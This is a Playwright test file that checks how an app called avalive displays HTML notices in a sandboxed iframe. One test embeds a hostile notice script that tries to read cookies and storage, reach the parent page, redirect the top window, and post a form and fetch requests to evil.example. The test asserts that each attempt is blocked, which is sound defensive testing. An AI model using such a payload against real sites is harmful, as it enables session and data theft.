import { invitations } from '@avalive/contract/invitations'
import type { Page } from '@playwright/test'
import { expect, expectAccessible, test } from '../fixtures.ts'
import { buttonsOf, pageEvents, publishNotice } from '../lib/notices.ts'

const frameOf = (page: Page) => page.frameLocator('iframe')
const addressOf = (id: number) => `/notice/page/${id}?sandbox=0`

/** The addresses that the page has tried to open, including those of apps. */
const attemptsOf = async (page: Page): Promise<string[]> => {
  const attempts: string[] = []
  const inspector = await page.context().newCDPSession(page)
  await inspector.send('Page.enable')
  inspector.on('Page.frameRequestedNavigation', ({ url }) => attempts.push(url))
  return attempts
}

/** Tries everything that the frame must not do, and writes what happened into the document. */
const hostile = `<p>Attack</p><pre id="out"></pre>
<form id="form" action="https://evil.example/steal" method="post"><input name="a" value="b"></form>
<script>
  const results = {}
  const attempt = (name, work) => {
    try { results[name] = 'allowed ' + work() } catch (error) { results[name] = error.name }
  }
  attempt('cookie', () => document.cookie)
  attempt('cookieWrite', () => { document.cookie = 'avalive_session=x' })
  attempt('localStorage', () => localStorage.length)
  attempt('sessionStorage', () => sessionStorage.length)
  attempt('parentDocument', () => parent.document.title)
  attempt('parentHistory', () => parent.history.length)
  attempt('parentStorage', () => parent.localStorage.length)
  attempt('topLocation', () => { top.location = 'https://evil.example/' })
  attempt('topReplace', () => { top.location.replace('https://evil.example/') })
  results.origin = window.origin
  results.bridge = [typeof window.avalive, typeof window.webkit].join()
  results.popup = String(window.open('https://evil.example/'))
  document.getElementById('form').submit()
  results.caches = 'caches' in window ? 'offered' : 'missing'
  const done = () => { document.getElementById('out').textContent = JSON.stringify(results) }
  Promise.allSettled([
    fetch('/api/v1/streamer_users/owner/get', { method: 'POST', credentials: 'include' }),
    fetch('https://evil.example/'),
    (async () => navigator.serviceWorker.register('/x.js'))(),
    new Promise((resolve, reject) => {
      try { const open = indexedDB.open('x'); open.onsuccess = resolve; open.onerror = () => reject(new Error('refused')) }
      catch (error) { reject(error) }
    }),
  ]).then((all) => {
    results.calls = all.map(({ status }) => status).join()
    done()
  })
  // Nobody has touched anything yet.
  for (const event of ['openProfile', 'openCoinShop', 'openLiveGame']) avaliveNotice.send(event, { profile_id: 'p', game_id: '1' })
</script>
<button onclick="location.href = 'https://evil.example/'">Leave</button>`

// shows notices-3
test('a hostile notice reaches neither cookies, storage, the page, the token nor another site', async ({
  page,
  api,
  become,
  trouble,
}) => {
  trouble.expect(/sandbox|Content Security Policy|evil\.example|ERR_BLOCKED|opaque|Failed to fetch|Unsafe attempt/i)
  const id = await publishNotice(api, 'Hostile', hostile)
  await become('viewer')
  const outside: string[] = []
  await page.context().route(/evil\.example/, (route) => {
    outside.push(route.request().url())
    return route.abort()
  })
  await page.goto(addressOf(id))
  await expect(frameOf(page).locator('#out')).not.toBeEmpty()
  const results = JSON.parse((await frameOf(page).locator('#out').textContent()) ?? '{}')
  expect(results).toEqual({
    cookie: 'SecurityError',
    cookieWrite: 'SecurityError',
    localStorage: 'SecurityError',
    sessionStorage: 'SecurityError',
    parentDocument: 'SecurityError',
    parentHistory: 'SecurityError',
    parentStorage: 'SecurityError',
    topLocation: 'SecurityError',
    topReplace: 'SecurityError',
    origin: 'null',
    bridge: 'undefined,undefined',
    popup: 'null',
    caches: expect.any(String),
    calls: 'rejected,rejected,rejected,rejected',
  })
  const refused = page.waitForEvent('console', (message) => /^Framing 'https:\/\/evil/.test(message.text()))
  await frameOf(page).getByRole('button', { name: 'Leave' }).click()
  await refused
  await expect(page).toHaveURL(addressOf(id))
  expect(outside).toEqual([])
  expect(page.context().pages()).toHaveLength(1)
})

// shows notices-3
test('the document of a notice has the origin null when it is opened by its own address', async ({
  page,
  api,
  become,
}) => {
  const id = await publishNotice(api, 'Alone', '<p id="o"></p><script>o.textContent = window.origin</script>')
  await become('viewer')
  await page.goto(`/notice/frame/${id}?locale=en`)
  await expect(page.locator('#o')).toHaveText('null')
  await expect(page).toHaveTitle('Alone')
})

// shows notices-2, notices-4, notices-5
test('a notice sets the title, runs its scripts in order and grows with its content', {
  tag: '@desktop',
}, async ({ page, api }) => {
  const html = `<p id="order"></p>
    <script>order.textContent += 'one '</script><script>order.textContent += 'two '</script>
    <img id="picture" alt="" src="/icons/newcomer.svg" width="40">
    <button onclick="document.body.insertAdjacentHTML('beforeend', '<div style=height:3000px>tall</div>')">More</button>
    <script>order.textContent += 'three'</script>`
  const id = await publishNotice(api, 'Autumn news', html)
  await page.goto(addressOf(id))
  await expect(page).toHaveTitle('Autumn news')
  await expect(page.getByRole('heading', { level: 1, name: 'Autumn news' })).toBeVisible()
  await expect(frameOf(page).locator('#order')).toHaveText('one two three')
  const loaded = () =>
    frameOf(page)
      .locator('#picture')
      .evaluate((image) => Reflect.get(image, 'naturalWidth') > 0)
  await expect.poll(loaded).toBe(true)
  await expectAccessible(page)
  await frameOf(page).getByRole('button', { name: 'More' }).click()
  const height = async () => (await page.locator('iframe').boundingBox())?.height ?? 0
  await expect.poll(height).toBeGreaterThan(3000)
})

test('a link in a notice does not take the notice away', async ({ page, api }) => {
  const html = `<p>Autumn leaves</p><a href="/mypage/"><b>Mine</b></a> <a href="https://example.com/">Other</a>`
  const id = await publishNotice(api, 'Links', html)
  await page.goto(addressOf(id))
  for (const name of ['Mine', 'Other']) await frameOf(page).getByRole('link', { name }).click()
  await expect(frameOf(page).getByText('Autumn leaves')).toBeVisible()
  await expect(page).toHaveURL(addressOf(id))
})

// shows notices-5
test('a notice that changes its height all the time is shown whole, and its buttons work', async ({ page, api }) => {
  const html = `<div id="box">Leaves</div><button onclick="avaliveNotice.send('openCoinShop')">Shop</button>
    <script>
      let height = 100
      const grow = () => {
        height += 10
        box.style.height = height + 'px'
        if (height < 2000) requestAnimationFrame(grow)
        else box.textContent = 'Done'
      }
      grow()
    </script>`
  const id = await publishNotice(api, 'Growing', html)
  await page.goto(addressOf(id))
  await expect(frameOf(page).locator('#box')).toHaveText('Done')
  const height = async () => (await page.locator('iframe').boundingBox())?.height ?? 0
  await expect.poll(height).toBeGreaterThan(2000)
  await frameOf(page).getByRole('button', { name: 'Shop' }).click()
  await expect(page).toHaveURL(/\/login|\/mypage\//)
})

for (const style of ['body { min-height: 100vh; padding: 40px }', 'main { min-height: 100vh }']) {
  // shows notices-5
  test(`a notice as tall as its window stays so: ${style}`, async ({ page, api }) => {
    const id = await publishNotice(api, 'Tall', `<style>${style}</style><main>Leaves</main>`)
    await page.goto(addressOf(id))
    await expect(frameOf(page).getByText('Leaves')).toBeVisible()
    await page.waitForTimeout(1000)
    expect((await page.locator('iframe').boundingBox())?.height).toBeLessThan(600)
  })
}

// shows notices-7, notices-8, notices-9
test('events open the pages of this site in a browser', async ({ page, api, become }) => {
  const id = await publishNotice(api, 'Events', buttonsOf(pageEvents))
  await become('viewer')
  const press = async (event: string, path: string | RegExp) => {
    await page.goto(addressOf(id))
    await frameOf(page).getByRole('button', { name: event, exact: true }).click()
    await expect(page).toHaveURL(path)
  }
  await press('openCoinShop', '/mypage/')
  await press('openGacha', '/gacha_odds/g-1')
  await press('openProfile', '/profile/p-1')
  await press('openLive', /\/viewer\/m-1/)
})

// shows notices-10, notices-11, notices-13
test('events about the app try its scheme in a browser, and then show the download page', async ({
  page,
  api,
  trouble,
}) => {
  trouble.expect(/launch 'avalive:/)
  const id = await publishNotice(api, 'Events', buttonsOf(pageEvents))
  const attempts = await attemptsOf(page)
  for (const [event, address] of [
    ['openLiveGame', 'avalive://live_game?game_id=7'],
    ['openAvatarShop', 'avalive://avatar_shop?shop_group_id=s-1'],
    ['openStarLiverRanking', 'avalive://star_liver_ranking'],
  ] as const) {
    await page.goto(addressOf(id))
    await frameOf(page).getByRole('button', { name: event, exact: true }).click()
    await expect.poll(() => attempts).toContain(address)
    await expect(page).toHaveURL('/download')
  }
})

// shows notices-6, notices-14, notices-15
test('invite buttons and counts follow the session, and a refused link shows an alert', async ({
  page,
  api,
  become,
  t,
  trouble,
}) => {
  trouble.expect(/403.*get_link|status of 403/)
  const html = `<button data-invite-button="none">Invite</button><b data-invite-count="none">?</b> <i data-invite-total="none">?</i>`
  const id = await publishNotice(api, 'Invite', html)
  await page.goto(addressOf(id))
  await expect(page.getByText(t('common.notSignedIn'))).toBeVisible()
  await expect(frameOf(page).getByRole('button', { name: 'Invite' })).toHaveCount(0)
  await expect(frameOf(page).locator('b')).toHaveText('?')

  await become('viewer')
  await page.goto(addressOf(id))
  await expect(frameOf(page).locator('b')).toHaveText('0')
  await expect(frameOf(page).locator('i')).toHaveText('0')
  await expect(page.getByText(t('common.notSignedIn'))).toHaveCount(0)
  await frameOf(page).getByRole('button', { name: 'Invite' }).click()
  const alert = page
    .getByRole('alertdialog')
    .or(page.getByRole('dialog'))
    .filter({ hasText: t('notice.error.title') })
  await expect(alert).toContainText(t('server.error.invitations.notOpen'))
  await alert.getByRole('button', { name: t('common.ok') }).click()

  await page.route(`**${invitations.getInviteCount.path}`, (route) =>
    route.fulfill({ json: { payload: { count: 1234, totalCount: 56_789 } } }),
  )
  await page.reload()
  await expect(frameOf(page).locator('b')).toHaveText('1,234')
  await expect(frameOf(page).locator('i')).toHaveText('56,789')
})

// shows notices-6, notices-14
test('more campaigns than are counted, and empty ones, leave the rest as it is', async ({ page, api, become }) => {
  const counts = Array.from({ length: 12 }, (_, nth) => `<b data-invite-count="c${nth}">?</b>`).join('')
  const html = `<button data-invite-button="autumn">Invite</button><b data-invite-count="">-</b>${counts}`
  const id = await publishNotice(api, 'Many', html)
  await page.goto(addressOf(id))
  await expect(frameOf(page).locator('b').first()).toBeVisible()
  await expect(frameOf(page).getByRole('button', { name: 'Invite' })).toHaveCount(0)

  await become('viewer')
  await page.goto(addressOf(id))
  await expect(frameOf(page).locator('b')).toHaveText(['-', ...Array(10).fill('0'), '?', '?'])
})

// shows notices-16
test('a notice that is not there shows an alert titled Error with the server’s message', async ({
  page,
  t,
  trouble,
}) => {
  trouble.expect(/404/)
  await page.goto(addressOf(999_999))
  const alert = page
    .getByRole('alertdialog')
    .or(page.getByRole('dialog'))
    .filter({ hasText: t('notice.error.title') })
  await expect(alert).toContainText(t('server.error.notFound'))
  await alert.getByRole('button', { name: t('common.ok') }).click()
  await expect(page.getByRole('heading', { level: 1, name: t('notice.gone.title') })).toBeVisible()
})
